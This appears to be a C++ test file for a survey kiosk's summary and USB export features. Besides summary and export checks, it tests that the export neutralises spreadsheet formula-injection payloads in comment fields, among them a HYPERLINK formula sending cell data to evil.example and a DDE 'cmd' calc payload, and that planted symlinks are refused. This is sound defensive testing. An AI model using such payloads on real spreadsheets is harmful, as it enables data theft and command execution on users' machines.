// Supervisor summary (local days, hours, the analytics report) and export (CSV round trip, XLSX,
// a full stick).
#include "kiosk_test_support.h"
#include "suara/analytics/csv.h"
#include "suara/kiosk/export.h"
#include "suara/kiosk/summary.h"

#include <chrono>
#include <csignal>
#include <cstdlib>
#include <fstream>
#include <numeric>
#include <sys/resource.h>
#include <sys/wait.h>
#include <thread>
#include <unistd.h>

using namespace suara::kiosk;
namespace analytics = suara::analytics;

namespace {

constexpr int kOffset = 480; // WITA
// 2026-11-21 00:00 local (WITA) as UTC ms.
const int64_t kDay = *analytics::parseDay("2026-11-21");
const int64_t kMidnight = kDay * 86'400'000 - kOffset * 60'000;

KioskConfig testConfig(const std::filesystem::path& dataDir) {
    KioskConfig c;
    c.kioskId = "kpg-01";
    c.officeId = "53.01";
    c.officeName = "Kupang";
    c.utcOffsetMinutes = kOffset;
    c.dataDir = dataDir;
    return c;
}

} // namespace

TEST_CASE("summary: a day, 7 days and 30 days by the office's local days", "[kiosk][summary]") {
    kiosk_test::TempDir dir("summary");
    auto store = Store::open(dir / "kiosk.db");
    REQUIRE(store.ok());
    Store& s = **store;
    const auto& ins = kiosk_test::servqual();
    std::mt19937 rng(10);
    // Today: 3 at 08:xx local, 2 at 13:xx local; 23:59:59.999 yesterday; 00:00 tomorrow.
    std::vector<analytics::Response> today;
    for (int i = 0; i < 5; ++i) {
        int64_t at = kMidnight + (i < 3 ? 8 : 13) * 3'600'000 + i * 60'000;
        auto r =
            kiosk_test::makeResponse(ins, rng, at, i == 1 ? "antri lama" : (i == 4 ? "petugas ramah" : ""));
        REQUIRE(s.submit(r).ok());
        today.push_back(r);
    }
    auto yesterday = kiosk_test::makeResponse(ins, rng, kMidnight - 1);
    REQUIRE(s.submit(yesterday).ok());
    auto tomorrow = kiosk_test::makeResponse(ins, rng, kMidnight + 86'400'000);
    REQUIRE(s.submit(tomorrow).ok());
    auto otherInstrument = kiosk_test::makeResponse(kiosk_test::skm(), rng, kMidnight + 9 * 3'600'000);
    REQUIRE(s.submit(otherInstrument).ok());
    for (int i = 0; i < 2; ++i) {
        Abandonment a;
        a.sessionUuid = newUuidV4();
        a.instrument = ins.id;
        a.instrumentVersion = ins.version;
        a.abandonedAtMs = kMidnight + 10 * 3'600'000;
        a.state = "items";
        a.reason = "idle";
        REQUIRE(s.recordAbandonment(a).ok());
    }
    REQUIRE(s.apply({{today[0].uuid, suara::sync::RecordStatus::Accepted, ""}}).ok());

    CHECK(todayLocal(kMidnight + 1, kOffset) == kDay);
    CHECK(todayLocal(kMidnight - 1, kOffset) == kDay - 1);

    auto day = buildSummary(s, ins, kOffset, {kDay, 1, 10});
    REQUIRE(day.ok());
    CHECK(day->responses == 5);
    CHECK(day->abandonments == 2);
    CHECK(day->completionRate == Approx(5.0 / 7.0));
    CHECK(day->perHour[8] == 3);
    CHECK(day->perHour[13] == 2);
    CHECK(std::accumulate(day->perHour.begin(), day->perHour.end(), int64_t{0}) == 5);
    REQUIRE(day->report.has_value());
    CHECK(day->report->n == 5);
    // The report is exactly the analytics library's over the same responses.
    analytics::Accumulator acc(ins);
    for (const auto& r : today) acc.add(r);
    analytics::Report expected = analytics::buildReport(ins, acc);
    CHECK(analytics::reportToJson(*day->report, ins) == analytics::reportToJson(expected, ins));
    REQUIRE(day->worstGaps.size() == 5);
    for (size_t i = 1; i < day->worstGaps.size(); ++i)
        CHECK(day->worstGaps[i - 1].gap <= day->worstGaps[i].gap);
    double minGap = 1e9;
    for (const auto& item : expected.items) minGap = std::min(minGap, item.gap);
    CHECK(day->worstGaps[0].gap == minGap);
    CHECK(day->priorityItems == expected.ipa->priorityItems);
    REQUIRE(day->recentComments.size() == 2);
    CHECK(day->recentComments[0].text == "petugas ramah"); // newest first
    CHECK(day->recentComments[1].text == "antri lama");
    CHECK(day->outbox.pending == 7);
    CHECK(day->outbox.synced == 1);
    CHECK_FALSE(day->lastStoreError.has_value());

    auto week = buildSummary(s, ins, kOffset, {kDay, 7, 10});
    REQUIRE(week.ok());
    CHECK(week->firstDay == kDay - 6);
    CHECK(week->responses == 6); // today + yesterday, not tomorrow
    auto month = buildSummary(s, ins, kOffset, {kDay + 1, 30, 10});
    REQUIRE(month.ok());
    CHECK(month->responses == 7);

    auto empty = buildSummary(s, ins, kOffset, {kDay - 100, 1, 10});
    REQUIRE(empty.ok());
    CHECK(empty->responses == 0);
    CHECK_FALSE(empty->report.has_value());
    CHECK(std::isnan(empty->completionRate));

    // The worker gives the same numbers without blocking the caller.
    SummaryWorker worker(s, ins, kOffset);
    worker.request({kDay - 3, 1, 10}); // superseded by the next request
    worker.request({kDay, 1, 10});
    std::optional<suara::Result<Summary>> got;
    for (int i = 0; i < 500 && !got; ++i) {
        got = worker.poll();
        // Busy until the result is handed over, finished or not: the kiosk polls while busy.
        if (!got) CHECK(worker.busy());
        if (!got) std::this_thread::sleep_for(std::chrono::milliseconds(10));
    }
    REQUIRE(got.has_value());
    REQUIRE(got->ok());
    CHECK((*got)->responses == 5);
    CHECK_FALSE(worker.busy());
}

TEST_CASE("export: CSV reads back to the same records and accumulator; XLSX is written", "[kiosk][export]") {
    kiosk_test::TempDir dir("export");
    auto store = Store::open(dir / "kiosk.db");
    REQUIRE(store.ok());
    Store& s = **store;
    for (const analytics::Instrument* ins : {&kiosk_test::servqual(), &kiosk_test::skm()}) {
        DYNAMIC_SECTION(ins->id) {
            std::mt19937 rng(11);
            std::vector<analytics::Response> sent;
            analytics::Accumulator acc(*ins);
            for (int i = 0; i < 120; ++i) {
                auto r = kiosk_test::makeResponse(*ins, rng, kMidnight + i * 600'000,
                                                  i % 7 == 0 ? "komentar, dengan \"kutip\"\nbaris dua" : "");
                if (i % 5 == 0) r.perception[2] = 0; // unanswered cells are blank, not 0
                REQUIRE(s.submit(r).ok());
                sent.push_back(r);
                acc.add(r);
            }
            auto usb = dir / ("usb-" + ins->id);
            std::filesystem::create_directories(usb);
            auto res = exportResponses(s, *ins, testConfig(dir.path()), {usb, 1, 0, true, true}, kMidnight);
            INFO((res ? "" : res.error().message));
            REQUIRE(res.ok());
            CHECK(res->rows == 120);
            auto bytes = analytics::readWholeFile(res->csvPath);
            REQUIRE(bytes.ok());
            CHECK(bytes->rfind("\xEF\xBB\xBF", 0) == 0);
            auto back = analytics::readCsvAccumulator(*bytes, *ins);
            INFO((back ? "" : back.error().message));
            REQUIRE(back.ok());
            CHECK(*back == acc);
            auto records = analytics::readCsvResponses(*bytes, *ins);
            REQUIRE(records.ok());
            REQUIRE(records->size() == sent.size());
            for (size_t i = 0; i < sent.size(); ++i) CHECK((*records)[i] == sent[i]);

            // XLSX: a zip with a responses sheet holding the numbers as numbers.
            REQUIRE(std::filesystem::file_size(res->xlsxPath) > 1000);
            std::string sheet = (dir / "sheet1.xml").string();
            REQUIRE(
                std::system(("unzip -p '" + res->xlsxPath.string() + "' xl/worksheets/sheet1.xml > " + sheet)
                                .c_str()) == 0);
            auto xml = analytics::readWholeFile(sheet);
            REQUIRE(xml.ok());
            bool numeric = xml->find("<c r=\"A2\"><v>") != std::string::npos ||
                           xml->find("<c r=\"A2\" s=\"0\"><v>") != std::string::npos;
            CHECK(numeric);
            REQUIRE(
                std::system(("unzip -l '" + res->xlsxPath.string() + "' | grep -q xl/worksheets/sheet2.xml")
                                .c_str()) == 0);
            // No temporary files are left on the stick.
            int files = 0;
            for (const auto& e : std::filesystem::directory_iterator(usb)) {
                CHECK(e.path().extension() != ".part");
                ++files;
            }
            CHECK(files == 2);
        }
    }
    auto log = s.auditLog(10);
    REQUIRE(log.ok());
    REQUIRE_FALSE(log->empty());
    CHECK((*log)[0].action == "export");

    auto missing =
        exportResponses(s, kiosk_test::servqual(), testConfig(dir.path()), {dir / "nope"}, kMidnight);
    REQUIRE_FALSE(missing.ok());
    CHECK_THAT(missing.error().message, Catch::Contains("not a directory"));
}

TEST_CASE("export: formula cells are neutralised in the CSV and are strings in the XLSX", "[kiosk][export]") {
    kiosk_test::TempDir dir("export");
    auto store = Store::open(dir / "kiosk.db");
    REQUIRE(store.ok());
    const analytics::Instrument& ins = kiosk_test::servqual();
    std::mt19937 rng(13);
    std::vector<analytics::Response> sent;
    const char* comments[] = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
                              "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
                              "\xEF\xBC\x9D"
                              "1+1",
                              "biasa saja"};
    for (int i = 0; i < 5; ++i) {
        auto r = kiosk_test::makeResponse(ins, rng, kMidnight + i * 600'000, comments[i]);
        if (i == 1) r.service = "=cmd|' /C calc'!A0";
        REQUIRE((*store)->submit(r).ok());
        sent.push_back(r);
    }
    auto usb = dir / "usb";
    std::filesystem::create_directories(usb);
    auto res = exportResponses(**store, ins, testConfig(dir.path()), {usb, 1, 0, true, true}, kMidnight);
    INFO((res ? "" : res.error().message));
    REQUIRE(res.ok());
    auto bytes = analytics::readWholeFile(res->csvPath);
    REQUIRE(bytes.ok());
    CHECK(bytes->find(",\"'=HYPERLINK(") != std::string::npos);
    CHECK(bytes->find(",'@SUM(") != std::string::npos);
    CHECK(bytes->find(",'=cmd|") != std::string::npos);
    CHECK(bytes->find(",'+1+1") != std::string::npos);
    CHECK(bytes->find(",'\xEF\xBC\x9D") != std::string::npos);
    for (const char* bad : {",=", ",@", ",+1", ",\"=", ",\xEF\xBC\x9D"})
        CHECK(bytes->find(bad) == std::string::npos);
    // What `suara report` reads: the same records, the same statistics.
    auto records = analytics::readCsvResponses(*bytes, ins);
    REQUIRE(records.ok());
    REQUIRE(records->size() == sent.size());
    for (size_t i = 0; i < sent.size(); ++i) CHECK((*records)[i] == sent[i]);

    // XLSX: the comment column holds shared strings (t="s"), and there is no formula anywhere.
    std::string sheet = (dir / "sheet1.xml").string(), strings = (dir / "strings.xml").string();
    REQUIRE(std::system(
                ("unzip -p '" + res->xlsxPath.string() + "' xl/worksheets/sheet1.xml > " + sheet).c_str()) ==
            0);
    REQUIRE(std::system(
                ("unzip -p '" + res->xlsxPath.string() + "' xl/sharedStrings.xml > " + strings).c_str()) ==
            0);
    auto xml = analytics::readWholeFile(sheet);
    auto shared = analytics::readWholeFile(strings);
    REQUIRE(xml.ok());
    REQUIRE(shared.ok());
    CHECK(xml->find("<f>") == std::string::npos);
    CHECK(shared->find("=HYPERLINK(") != std::string::npos); // kept as text, exactly as typed
    CHECK(shared->find("=cmd|") != std::string::npos);
}

TEST_CASE("export: links prepared on the stick are never written through", "[kiosk][export][security]") {
    kiosk_test::TempDir dir("export");
    auto store = Store::open(dir / "kiosk.db");
    REQUIRE(store.ok());
    std::mt19937 rng(14);
    for (int i = 0; i < 20; ++i) {
        auto r = kiosk_test::makeResponse(kiosk_test::servqual(), rng, kMidnight + i * 1000);
        REQUIRE((*store)->submit(r).ok());
    }
    // Files the kiosk user can write, outside the stick.
    const auto victim = dir / "victim.toml";
    const std::string original = "kiosk_id = \"kpg-01\"\n";
    auto plant = [&](const std::filesystem::path& usb, const std::string& name) {
        std::filesystem::create_symlink(victim, usb / name);
    };
    auto victimIntact = [&] {
        auto now = analytics::readWholeFile(victim);
        return now.ok() && *now == original;
    };
    { std::ofstream(victim) << original; }
    const std::string base = "suara-kpg-01-servqual-ektp-18-all";

    SECTION("the old predictable temporary names: the export succeeds beside them") {
        auto usb = dir / "usb";
        std::filesystem::create_directories(usb);
        plant(usb, base + ".csv.part");
        plant(usb, base + ".xlsx.part");
        auto res = exportResponses(**store, kiosk_test::servqual(), testConfig(dir.path()), {usb}, kMidnight);
        INFO((res ? "" : res.error().message));
        REQUIRE(res.ok());
        CHECK(victimIntact());
        CHECK(std::filesystem::is_regular_file(std::filesystem::symlink_status(res->csvPath)));
        CHECK(std::filesystem::is_regular_file(std::filesystem::symlink_status(res->xlsxPath)));
        auto csv = analytics::readWholeFile(res->csvPath);
        REQUIRE(csv.ok());
        CHECK(analytics::readCsvResponses(*csv, kiosk_test::servqual())->size() == 20);
        int entries = 0;
        for (const auto& e : std::filesystem::directory_iterator(usb)) {
            (void)e;
            ++entries;
        }
        CHECK(entries == 4); // the two planted links and the two exports; no temporaries
    }
    for (const std::string ext : {".csv", ".xlsx"}) {
        DYNAMIC_SECTION("the final name " << ext << " is a link: refused, nothing written") {
            auto usb = dir / ("usb" + ext);
            std::filesystem::create_directories(usb);
            plant(usb, base + ext);
            const bool csv = ext == ".csv";
            auto res = exportResponses(**store, kiosk_test::servqual(), testConfig(dir.path()),
                                       {usb, 1, 0, csv, !csv}, kMidnight);
            REQUIRE_FALSE(res.ok());
            CHECK_THAT(res.error().message, Catch::Contains("symbolic link"));
            CHECK(victimIntact());
            std::vector<std::string> names;
            for (const auto& e : std::filesystem::directory_iterator(usb))
                names.push_back(e.path().filename());
            CHECK(names == std::vector<std::string>{base + ext}); // only the planted link
            auto log = (*store)->auditLog(1);
            REQUIRE(log.ok());
            CHECK((*log)[0].action == "export_failed");
        }
    }
    SECTION("the export directory itself is a link: refused") {
        auto real = dir / "elsewhere";
        std::filesystem::create_directories(real);
        std::filesystem::create_directory_symlink(real, dir / "usb-link");
        auto res = exportResponses(**store, kiosk_test::servqual(), testConfig(dir.path()),
                                   {dir / "usb-link"}, kMidnight);
        REQUIRE_FALSE(res.ok());
        CHECK_THAT(res.error().message, Catch::Contains("symbolic link"));
        CHECK(std::filesystem::is_empty(real));
    }
}

TEST_CASE("export: a full stick gives an Error and no half CSV (any user)", "[kiosk][export][fault]") {
    // A full stick as any user: in a forked child, RLIMIT_FSIZE makes every write past 64 KiB fail
    // (EFBIG, with SIGXFSZ ignored) the way a full file system fails it (ENOSPC). The store is
    // closed first, so the child's audit entry goes into a fresh WAL that stays below the limit.
    kiosk_test::TempDir dir("export");
    auto usb = dir / "usb";
    std::filesystem::create_directories(usb);
    {
        auto store = Store::open(dir / "kiosk.db");
        REQUIRE(store.ok());
        std::mt19937 rng(12);
        for (int i = 0; i < 1500; ++i) {
            std::string comment;
            for (int k = 0; k < 100; ++k) comment.push_back(static_cast<char>('a' + rng() % 26));
            auto r = kiosk_test::makeResponse(kiosk_test::servqual(), rng, kMidnight + i * 1000, comment);
            REQUIRE((*store)->submit(r).ok());
        }
    }
    {
        const bool csv = true; // the CSV; the XLSX needs a really full file system (the root test below)
        int fds[2];
        REQUIRE(::pipe(fds) == 0);
        const pid_t pid = ::fork();
        REQUIRE(pid >= 0);
        if (pid == 0) {
            ::close(fds[0]);
            std::signal(SIGXFSZ, SIG_IGN);
            const rlimit limit{64 * 1024, 64 * 1024};
            ::setrlimit(RLIMIT_FSIZE, &limit);
            auto store = Store::open(dir / "kiosk.db");
            if (!store) ::_exit(3);
            auto res = exportResponses(**store, kiosk_test::servqual(), testConfig(dir.path()),
                                       {usb, 1, 0, csv, !csv}, kMidnight);
            const std::string msg = res ? std::string("exported") : res.error().message;
            (void)!::write(fds[1], msg.data(), msg.size());
            ::_exit(0);
        }
        ::close(fds[1]);
        std::string message;
        char buf[512];
        for (ssize_t n; (n = ::read(fds[0], buf, sizeof buf)) > 0;)
            message.append(buf, static_cast<size_t>(n));
        ::close(fds[0]);
        int status = 0;
        REQUIRE(::waitpid(pid, &status, 0) == pid);
        REQUIRE(WIFEXITED(status));
        REQUIRE(WEXITSTATUS(status) == 0);
        INFO(message);
        CHECK_THAT(message, Catch::Contains("cannot write") || Catch::Contains("cannot flush") ||
                                Catch::Contains("cannot create"));
        CHECK(std::filesystem::is_empty(usb)); // no half file, no temporary
    }
    auto store = Store::open(dir / "kiosk.db");
    REQUIRE(store.ok());
    CHECK(*(*store)->responseCount() == 1500);
    CHECK(*(*store)->integrityCheck() == "ok");
    auto log = (*store)->auditLog(1);
    REQUIRE(log.ok());
    REQUIRE(log->size() == 1);
    CHECK((*log)[0].action == "export_failed");
}

// The same on a real full file system, for the XLSX too: libxlsxwriter does not check the writes of
// its temporary files, so only a file system that is really full (where writing the zip fails as
// well) shows its failure; RLIMIT_FSIZE would leave a short XLSX reported as written. Needs root
// for the tmpfs: a hidden test that ctest runs as kiosk_core_export_full_root, reported as skipped
// (exit 77) elsewhere.
TEST_CASE("export: a full tmpfs stick gives an Error and no half CSV or XLSX (root)", "[.][root]") {
    kiosk_test::TempDir dir("export");
    auto usb = dir / "usb";
    std::filesystem::create_directories(usb);
    if (::geteuid() != 0 ||
        std::system(("mount -t tmpfs -o size=64k suara-usb " + usb.string() + " 2>/dev/null").c_str()) != 0) {
        std::fputs("not root or mount(8) unavailable: skipped\n", stderr);
        std::exit(77); // ctest: SKIP_RETURN_CODE
    }
    struct Unmount {
        std::string at;
        ~Unmount() { (void)std::system(("umount -l " + at).c_str()); }
    } unmount{usb.string()};
    auto store = Store::open(dir / "kiosk.db");
    REQUIRE(store.ok());
    std::mt19937 rng(12);
    for (int i = 0; i < 1500; ++i) {
        auto r = kiosk_test::makeResponse(kiosk_test::servqual(), rng, kMidnight + i * 1000,
                                          std::string(100, 'c'));
        REQUIRE((*store)->submit(r).ok());
    }
    for (bool csv : {true, false}) {
        auto res = exportResponses(**store, kiosk_test::servqual(), testConfig(dir.path()),
                                   {usb, 1, 0, csv, !csv}, kMidnight);
        REQUIRE_FALSE(res.ok());
        INFO(res.error().message);
        CHECK_THAT(res.error().message, Catch::Contains("cannot write") || Catch::Contains("cannot flush") ||
                                            Catch::Contains("cannot create"));
        CHECK(std::filesystem::is_empty(usb));
    }
    auto log = (*store)->auditLog(1);
    REQUIRE(log.ok());
    CHECK((*log)[0].action == "export_failed");
}
